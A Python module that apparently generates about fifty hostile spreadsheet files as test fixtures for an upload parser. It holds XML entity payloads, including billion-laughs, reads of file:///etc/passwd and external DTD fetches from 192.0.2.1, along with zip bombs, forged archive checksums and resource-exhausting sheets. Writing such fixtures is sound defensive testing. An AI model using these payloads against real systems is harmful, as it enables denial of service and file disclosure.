"""Fifty workbooks made to do harm; each is built by code and none is kept."""

import io
import struct
import zipfile
import zlib

HEADER = ("jobseeker_id", "skills")
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
XML = '<?xml version="1.0" encoding="UTF-8"?>\n'
LOL = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
FOREIGN = ("file:///etc/passwd", "file:///dev/zero", "http://192.0.2.1/x", "https://192.0.2.1/x", "ftp://192.0.2.1/x")
DOCTYPES = [
    f'<!DOCTYPE x [<!ENTITY l0 "lol">{LOL}]>',
    f'<!DOCTYPE x [<!ENTITY l0 "{"x" * 100_000}">]>',
    '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/a.dtd">%a;]>',
    '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
    '<!DOCTYPE x SYSTEM "http://192.0.2.1/a.dtd">',
    '<!DOCTYPE x PUBLIC "-//A//B//EN" "http://192.0.2.1/a.dtd">',
    *(f'<!DOCTYPE x [<!ENTITY l0 SYSTEM "{address}">]>' for address in FOREIGN),
]
BIG = 60_000_000


def sheet(rows, *, dimension="A1:B2", merged=""):
    return f'{XML}<worksheet xmlns="{MAIN}"><dimension ref="{dimension}"/><sheetData>{rows}</sheetData>{merged}</worksheet>'


def cell(place, text):
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def row(number, *cells):
    return f'<row r="{number}">{"".join(cells)}</row>'


SOUND = row(1, cell("A1", HEADER[0]), cell("B1", HEADER[1])) + row(2, cell("A2", "1"), cell("B2", "welding"))


def parts(first=None, *, sheets=1, strings="", doctype=""):
    """Give the parts of a workbook; every sheet's name points at the first part where `sheets` is larger than one."""
    names = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, sheets + 1))
    return {
        "[Content_Types].xml": f'{XML}<Types xmlns="{PACKAGE}/content-types"/>',
        "_rels/.rels": f'{XML}<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" Type="{RELS}/officeDocument"'
        ' Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'{XML}{doctype}<workbook xmlns="{MAIN}" xmlns:r="{RELS}"><sheets>{names}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{XML}<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1"'
        f' Type="{RELS}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="{RELS}/sharedStrings"'
        ' Target="sharedStrings.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": first or sheet(SOUND),
        "xl/sharedStrings.xml": strings or f'{XML}<sst xmlns="{MAIN}"/>',
    }


def packed(files, *, method=zipfile.ZIP_DEFLATED):
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return written.getvalue()


def bomb(name, size=BIG, letter=b" "):
    """Pack a workbook of which one part unpacks to `size` bytes, without ever holding them."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for each, content in parts().items():
            if each != name:
                archive.writestr(each, content)
        with archive.open(name, "w", force_zip64=True) as part:
            for _ in range(size // 1_000_000):
                part.write(letter * 1_000_000)
    return written.getvalue()


def lying(name, content, declared):
    """Pack a part that declares fewer bytes than it unpacks to, with the checksum of the first ones."""
    archive = bytearray(packed({**parts(), name: content}))
    true = len(content.encode() if isinstance(content, str) else content)
    whole = content.encode() if isinstance(content, str) else content
    old = struct.pack("<I", zlib.crc32(whole)), struct.pack("<I", true)
    new = struct.pack("<I", zlib.crc32(whole[:declared])), struct.pack("<I", declared)
    for before, after in zip(old, new, strict=True):
        archive = archive.replace(before, after)
    return bytes(archive)


def strings(texts, *, count="1"):
    return f'{XML}<sst xmlns="{MAIN}" count="{count}" uniqueCount="{count}">{texts}</sst>'


def shared(n_rows, column="A"):
    return "".join(f'<row r="{n}"><c r="{column}{n}" t="s"><v>0</v></c></row>' for n in range(1, n_rows + 1))


def many_parts(n):
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_STORED) as archive:
        for name, content in parts().items():
            archive.writestr(name, content)
        for at in range(n):
            archive.writestr(f"x{at}", b"")
    return written.getvalue()


def overlapping():
    """A directory of a thousand names for one and the same packed part (the bomb of Fifield)."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts().items():
            archive.writestr(name, content)
        archive.writestr("xl/worksheets/sheet2.xml", "a" * 4_000)
        last = archive.filelist[-1]
        for at in range(1_000):
            copy = zipfile.ZipInfo(f"xl/worksheets/sheet{at + 3}.xml")
            copy.header_offset, copy.CRC, copy.compress_type = last.header_offset, last.CRC, last.compress_type
            copy.compress_size, copy.file_size = last.compress_size, last.file_size
            archive.filelist.append(copy)
    return written.getvalue()


def far(place):
    return sheet(SOUND + f'<row r="{place[1]}">{cell("".join(map(str, place)), "x")}</row>')


def ods(content):
    manifest = f'{XML}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    return packed({"mimetype": kind, "META-INF/manifest.xml": manifest, "content.xml": content})


def ods_table(rows, doctype=""):
    office, table, text = (f"urn:oasis:names:tc:opendocument:xmlns:{each}:1.0" for each in ("office", "table", "text"))
    return (
        f'{XML}{doctype}<office:document-content xmlns:office="{office}" xmlns:table="{table}" xmlns:text="{text}"><office:body>'
        f'<office:spreadsheet><table:table table:name="S">{rows}</table:table></office:spreadsheet></office:body>'
        "</office:document-content>"
    )


def hostile_files():
    """Give fifty workbooks by name."""
    text = "я" * 30_000
    made = {f"entity{at}": packed(parts(doctype=each)) for at, each in enumerate(DOCTYPES)}
    made |= {
        f"entity_in_{name.split('/')[-1]}": packed({**parts(), name: content.replace("?>\n", f"?>\n{DOCTYPES[0]}", 1)})
        for name, content in parts().items()
    }
    made |= {f"bomb_in_{name.split('/')[-1]}": bomb(name) for name in parts()}
    made |= {f"far_{at}": packed(parts(far(place))) for at, place in enumerate(FAR)}
    made |= {
        "bomb_media": bomb("xl/media/image1.png"),
        "heavy_sheet_often": packed(
            {
                **parts(sheet(shared(90_000)), sheets=200, strings=strings("<si><t>a</t></si>")),
                **{f"xl/sheet{n}.xml": "" for n in range(200)},
            }
        ),
        "lying_sheet": lying("xl/worksheets/sheet1.xml", sheet(SOUND) + " " * 9_000_000, 700),
        "lying_strings": lying("xl/sharedStrings.xml", strings("<si><t>" + "a" * 9_000_000 + "</t></si>"), 500),
        "overlap": overlapping(),
        "many_parts": many_parts(20_000),
        "many_parts_wrapped": many_parts(70_000),
        "same_sheet_often": packed(parts(sheets=20_000)),
        "strings_repeated": packed(parts(sheet(shared(20_000)), strings=strings(f"<si><t>{text}</t></si>"))),
        "strings_repeated_wide": packed(
            parts(sheet(shared(9_000, "C")), strings=strings(f"<si><t>{text * 2}</t></si>"))
        ),
        "utf16": packed({**parts(), "xl/workbook.xml": parts()["xl/workbook.xml"].encode("utf-16")}),
        "lzma": packed(parts(), method=zipfile.ZIP_LZMA),
        "bzip2": packed(parts(), method=zipfile.ZIP_BZIP2),
        "merged_for_ever": packed(parts(sheet(*MERGED[:1], merged=MERGED[1]))),
        "ods_entity": ods(ods_table("", DOCTYPES[0])),
        "ods_rows": ods(ods_table(REPEATED)),
        "ods_bomb": ods(ods_table("<table:table-row/>" * 900_000)),
        "nested_elements": packed(parts(sheet("<a>" * 1_500_000))),
        "nested_in_strings": packed(parts(strings=strings("<si>" * 1_500_000))),
        "many_strings": packed(parts(strings=strings("<si><t/></si>" * 6_000_000))),
        "no_end": packed(parts())[:-30],
        "no_directory": packed(parts())[:600] + packed({})[-22:],
    }
    assert len(made) >= 50, len(made)
    return made


FAR = (
    ("XFD", 1_048_576),
    ("XFD", 4_000_000_000),
    ("ALL", 1_048_576),
    ("Z", 1_048_576),
    ("XFD", 100_000),
    ("XFD", 20_000),
)
MERGED = (
    row(1, cell("A1", "x" * 30_000)) + f'<row r="1048000">{cell("A1048000", "x")}</row>',
    '<mergeCells count="1"><mergeCell ref="A1:A1048000"/></mergeCells>',
)
REPEATED = (
    '<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="1000"'
    f' office:value-type="string"><text:p>{"x" * 1_000}</text:p></table:table-cell></table:table-row>'
)
